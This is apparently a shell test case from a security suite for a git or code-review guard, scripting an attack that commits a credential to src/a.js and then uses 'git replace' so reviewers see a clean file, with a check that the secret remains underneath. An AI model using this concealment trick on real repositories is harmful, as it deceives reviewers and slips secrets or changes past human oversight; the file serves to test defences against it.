# A replacement shows reviewers a clean file instead of the one that holds a credential.
# careless: gated
# sandbox: gated
attack() {
  clean=$(echo 'export const a = 2;' | git hash-object -w --stdin)
  echo "key = '$(token)'" > src/a.js
  git add --all && git commit --quiet --message=replaced
  git replace "$(git rev-parse HEAD:src/a.js)" "$clean"
}
check() { git -C "$USERREPO" --no-replace-objects show main:src/a.js | grep -q "$(token)"; }
